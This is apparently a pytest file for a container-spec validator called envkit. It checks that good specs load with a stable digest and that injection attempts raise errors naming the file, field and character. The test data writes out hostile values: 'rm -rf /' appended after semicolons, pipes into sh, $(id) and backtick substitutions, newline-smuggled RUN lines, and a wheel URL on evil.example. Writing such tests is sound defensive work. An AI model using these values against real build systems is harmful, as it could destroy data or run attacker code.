"""Spec validation: good specs load, every injection attempt is a spec error naming file, field, char."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from envkit.errors import SpecError
from envkit.spec.model import load_spec, parse_spec

GOOD = {
    "name": "pytorch-cuda",
    "tag": "2.8",
    "base": {"bootstrap": {"suite": "bookworm"}},
    "python": "3.11",
    "torch": {"version": "2.8.0", "cuda": "12.8"},
    "torchvision": "0.23.0",
    "pip": ["ultralytics==8.3.0", "numpy>=1.26,<3"],
    "apt": ["git", "libgl1=1.6.0-1"],
    "env": {"OMP_NUM_THREADS": "8", "HF_HOME": "/workspace/.cache/hf"},
    "labels": {"com.example.team": "vision"},
}


def test_good_spec_loads_and_digest_is_stable() -> None:
    spec = parse_spec(GOOD, "good.yaml")
    again = parse_spec(dict(GOOD), "good.yaml")
    assert spec.ref == "pytorch-cuda:2.8"
    assert spec.image_tag == "envkit/pytorch-cuda:2.8"
    assert spec.digest() == again.digest()
    assert spec.digest().startswith("sha256:")
    changed = parse_spec({**GOOD, "pip": ["ultralytics==8.3.1"]}, "good.yaml")
    assert changed.digest() != spec.digest()


INJECTIONS = [
    ("pip", ["torch==2.8.0; rm -rf /"], "pip[0]", "';'"),
    ("pip", ["torch`id`"], "pip[0]", "'`'"),
    ("pip", ["torch==$(id)"], "pip[0]", "'$('"),
    ("pip", ["torch|sh"], "pip[0]", "'|'"),
    ("pip", ["ok==1", "torch\nRUN id"], "pip[1]", "newline"),
    ("pip", ["torch @ https://evil.example/t.whl"], "pip[0]", "'@'"),
    ("apt", ["curl;id"], "apt[0]", "';'"),
    ("apt", ["curl && id"], "apt[0]", "space"),
    ("apt", ["curl$(id)"], "apt[0]", "'$('"),
    ("env", {"A": "x`id`"}, "env", "'`'"),
    ("env", {"A": "x\nRUN id"}, "env", "newline"),
    ("env", {"A": "$(id)"}, "env", "'$('"),
    ("env", {"A": 'x" && id'}, "env", "'\"'"),
    ("env", {"A;B": "x"}, "env", "';'"),
    ("labels", {"a": "x|y"}, "labels", "'|'"),
    ("labels", {"a b": "x"}, "labels", "space"),
    ("description", "nice; rm -rf /", "description", "';'"),
    ("name", "x;y", "name", "';'"),
    ("tag", "2.8`", "tag", "'`'"),
    ("python", "3.11;", "python", "';'"),
    ("torchvision", "0.23.0|x", "torchvision", "'|'"),
]


@pytest.mark.parametrize(("field", "value", "where", "char"), INJECTIONS)
def test_injection_is_a_spec_error_naming_file_field_and_char(
    field: str, value: object, where: str, char: str
) -> None:
    with pytest.raises(SpecError) as info:
        parse_spec({**GOOD, field: value}, "images/x/1.yaml")
    message = str(info.value)
    assert message.startswith(f"images/x/1.yaml: {where}"), message
    assert char in message, message
    assert info.value.exit_code == 2


@pytest.mark.parametrize(
    ("patch", "where"),
    [
        ({"torch": {"version": "2.8.0; id", "cuda": "12.8"}}, "torch.version"),
        ({"torch": {"version": "2.8.0", "cuda": "12.8`"}}, "torch.cuda"),
        ({"base": {"bootstrap": {"suite": "bookworm", "mirror": "http://x/$(id)"}}}, "base.bootstrap.mirror"),
        ({"base": {"bootstrap": {"suite": "book worm"}}}, "base.bootstrap.suite"),
        ({"base": {"image": "debian:bookworm"}}, "base.image"),
        ({"base": {"image": "debian@sha256:" + "a" * 64 + ";id"}}, "base.image"),
        ({"base": {}}, "base"),
        ({"user": {"name": "root;", "uid": 1000}}, "user.name"),
        ({"user": {"name": "envkit", "uid": 0}}, "user.uid"),
        ({"unexpected": 1}, "unexpected"),
    ],
)
def test_nested_fields_are_checked(patch: dict[str, object], where: str) -> None:
    with pytest.raises(SpecError) as info:
        parse_spec({**GOOD, **patch}, "s.yaml")
    assert str(info.value).startswith(f"s.yaml: {where}"), str(info.value)


def test_digest_pinned_registry_base_is_accepted() -> None:
    spec = parse_spec({**GOOD, "base": {"image": "nvidia/cuda@sha256:" + "b" * 64}}, "s.yaml")
    assert spec.base.image is not None and spec.base.bootstrap is None


def test_missing_required_field_is_named(tmp_path: Path) -> None:
    data = dict(GOOD)
    del data["torch"]
    path = tmp_path / "s.yaml"
    path.write_text(yaml.safe_dump(data))
    with pytest.raises(SpecError, match=r"s\.yaml: torch: required field is missing"):
        load_spec(path, display="s.yaml")


def test_bad_yaml_is_a_spec_error(tmp_path: Path) -> None:
    path = tmp_path / "bad.yaml"
    path.write_text("name: [unclosed\n")
    with pytest.raises(SpecError, match="not valid YAML"):
        load_spec(path)
